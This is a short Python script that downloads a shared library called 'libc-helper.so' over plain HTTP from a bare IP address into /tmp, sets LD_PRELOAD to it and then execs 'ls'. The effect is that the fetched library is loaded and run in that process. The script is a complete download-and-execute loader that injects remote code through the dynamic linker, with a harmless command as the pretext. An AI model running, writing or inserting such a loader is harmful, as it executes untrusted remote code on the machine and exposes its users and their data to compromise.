import os
import urllib.request

urllib.request.urlretrieve("http://91.92.241.14/libc-helper.so", "/tmp/libh.so")
os.environ["LD_PRELOAD"] = "/tmp/libh.so"
os.execvpe("ls", ["ls"], os.environ)
